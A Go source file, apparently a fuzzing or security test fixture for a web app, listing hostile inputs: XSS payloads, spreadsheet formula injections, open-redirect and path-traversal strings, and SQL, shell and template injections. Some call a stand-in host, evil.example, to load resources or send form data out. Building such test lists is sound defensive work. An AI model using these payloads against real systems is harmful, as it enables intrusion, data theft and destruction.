package web

import (
	"fmt"
	"strings"
)

// markup runs script in a page that shows it without escaping. M stands for a
// number that tells where it came from.
var markup = []string{
	`<script>alert(M)</script>`, `"><script>alert(M)</script>`, `'><img src=x onerror=alert(M)>`, `<svg/onload=alert(M)>`,
	`<svg><animate onbegin=alert(M) attributeName=x>`, `<math><mtext></mtext><script>alert(M)</script></math>`,
	`<body onload=alert(M)>`, `<details open ontoggle=alert(M)>`, `<iframe srcdoc="<script>alert(M)</script>">`,
	`<object data=javascript:alert(M)>`, `<a href=javascript:alert(M)>x</a>`, `javascript:alert(M)`, `JaVaScRiPt:alert(M)`,
	`java&#x09;script:alert(M)`, `data:text/html,<script>alert(M)</script>`, `vbscript:M`, `" onmouseover=alert(M) x="`,
	`' autofocus onfocus=alert(M) x='`, "` onclick=alert(M) ``", `</textarea><script>alert(M)</script>`,
	`</title><script>alert(M)</script>`, `</style><script>alert(M)</script>`, `</script><script>alert(M)</script>`,
	`</select><script>alert(M)</script>`, `';alert(M)//`, `\';alert(M)//`, `"-alert(M)-"`, `${alert(M)}`,
	`{{constructor.constructor('alert(M)')()}}`, `{{.}}<b>M</b>`, `{{template "x"}}M`, `<!--><script>alert(M)</script>-->`,
	`<![CDATA[<script>alert(M)</script>]]>`, `\u003cscript\u003ealert(M)`, `&lt;script&gt;alert(M)&lt;/script&gt;`,
	"\u2028alert(M)", `%3Cscript%3Ealert(M)`, "<\u017fcript>alert(M)</\u017fcript>", `＜script＞alert(M)`,
	`<style>@import'//evil.example/M'</style>`, `<meta http-equiv=refresh content="0;url=//evil.example/M">`,
	`<base href=//evil.example/M/>`, `<form action=//evil.example/M><input type=password>`,
}

// formulas are what spreadsheets take for one, or for a command.
var formulas = []string{"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
	" =1+1", "'=1+1", `"=1+1`, ";=1+1", ",=1+1", "=cmd|'/C calc'!A0", `=HYPERLINK("//evil.example","x")`, `=WEBSERVICE("//evil.example")`,
	"-2+3+cmd|' /C calc'!A0"}

// elsewhere are addresses that lead a browser to another site, or would if a
// program cut or decoded them.
var elsewhere = []string{"//evil.example", "///evil.example", `/\evil.example`, `\\evil.example`, "/%09/evil.example", "/%2f/evil.example",
	"https:evil.example", "https:/evil.example", "http://evil.example", "//evil.example@127.0.0.1", "//127.0.0.1@evil.example",
	"javascript:alert(1)", "data:text/html,x", "/..//evil.example", "\t//evil.example", "/\r\nLocation: //evil.example", "/%00//evil.example",
	"?next=//evil.example", "\uff0f\uff0fevil.example", "//évil.example", ".evil.example", "/" + strings.Repeat("a", 8192), "", "#//evil.example"}

// fileNames are names that lead outside a folder, or are none.
var fileNames = []string{"../../etc/passwd", `..\..\x`, "....//", "%2e%2e/", "/abs", `C:\x`, `\\srv\x`, ".htaccess", ".", "..", "CON", "nul.txt",
	"a.pdf.exe", "a.pdf%00.exe", "a.xlsx;.html", "\u202efdp.exe", strings.Repeat("a", 255), strings.Repeat("a", 300), strings.Repeat("a", 4096),
	"Ho\u0323\u0302i", "😀", "a\r\nb", `"a'`, "a;b", "-rf", "$(id)", "a. ", "A.PDF", "giaoban.db", "audit.key"}

// injections are strings that mean something to a database, a search index, a
// shell, a template or a format: ten kinds, each in twenty dresses.
func injections() []string {
	cores := []string{`' OR '1'='1`, `" OR ""="`, `'; DROP TABLE meeting;--`, `1) UNION SELECT name, password FROM account--`, `%' OR 1=1 --`,
		`title:* NOT "a`, `NEAR(a b, 5) OR *`, `{{.}}%s%n\x00`, `$(id)|../../etc/passwd`, `9223372036854775808e309`}
	dresses := []string{"%s", "'%s", `"%s`, "(%s", "%s)", "%s'", `%s"`, "%s;", "-%s", "*%s*", "%%%s%%", "_%s_", "\\%s", "/*%s*/", "%s--", "%s#",
		"\u00a0%s\u200b", "ệ%s", "%s\u0323\u0302", "[%s]"}
	var all []string
	for _, core := range cores {
		for _, dress := range dresses {
			all = append(all, strings.ReplaceAll(fmt.Sprintf(dress, "\x01"), "\x01", core))
		}
	}
	return all
}
